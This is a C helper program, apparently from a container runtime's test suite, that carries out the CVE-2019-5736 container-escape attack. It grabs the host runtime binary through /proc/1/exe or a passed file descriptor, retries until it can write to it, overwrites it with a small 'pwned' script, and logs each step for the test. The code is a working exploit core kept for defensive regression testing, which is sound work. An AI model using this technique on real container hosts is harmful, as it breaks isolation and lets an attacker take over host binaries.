/*
 * The writer of the CVE-2019-5736 attacks (attacks-binary.bats), a static
 * program in the malicious image.  It holds an O_PATH fd of the runtime's
 * binary and retries opening it for writing while the binary is busy
 * (ETXTBSY), until no runtime process runs it any more:
 *   exe-writer FD      the fd came from exe-grab.so (route A)
 *   exe-writer         open /proc/1/exe itself: the init of a created
 *                      container, which is the runtime until `start` (B)
 * It notes each step in /attack.log so the test can tell "refused" from
 * "never tried".  Not part of skiff.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void note(const char *what, int err)
{
	int fd = open("/attack.log", O_WRONLY | O_CREAT | O_APPEND, 0644);

	if (fd >= 0) {
		dprintf(fd, "%s %s\n", what, err ? strerror(err) : "ok");
		close(fd);
	}
}

int main(int argc, char **argv)
{
	struct timespec pause = { 0, 2 * 1000 * 1000 };
	char target[256], path[64];
	int exe;

	if (argc > 1) {
		exe = atoi(argv[1]);
	} else {
		ssize_t n = readlink("/proc/1/exe", target, sizeof(target) - 1);

		if (n >= 0) {
			target[n] = '\0';
			note(target, 0);
		}
		exe = open("/proc/1/exe", O_PATH);
		if (exe < 0) {
			note("open-exe", errno);
			return 0;
		}
	}
	note("holding", 0);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	/* 20 s at most: the runtime has long exited by then. */
	for (int i = 0; i < 10000; i++) {
		int fd = open(path, O_WRONLY | O_TRUNC);

		if (fd >= 0) {
			ssize_t w = write(fd, "#!/bin/sh\necho pwned\n", 21);

			note(w == 21 ? "overwrote" : "write-failed", w == 21 ? 0 : errno);
			return 0;
		}
		if (errno != ETXTBSY) {
			note("open-for-write", errno);
			return 0;
		}
		nanosleep(&pause, NULL);
	}
	note("gave-up-busy", ETXTBSY);
	return 0;
}
